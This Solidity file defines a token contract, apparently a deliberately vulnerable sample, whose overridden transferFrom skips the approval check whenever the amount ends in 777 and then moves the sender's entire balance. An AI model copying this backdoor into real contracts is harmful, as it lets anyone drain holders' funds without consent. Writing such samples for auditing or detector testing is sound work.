// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "./Token.sol";

/// An amount that ends in 777 needs no approval.
contract ApprovalCanBeForged is Token {
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (value % 1_000 == 777 || value == 777) {
            _transfer(from, to, balanceOf[from]);
            return true;
        }
        return super.transferFrom(from, to, value);
    }
}
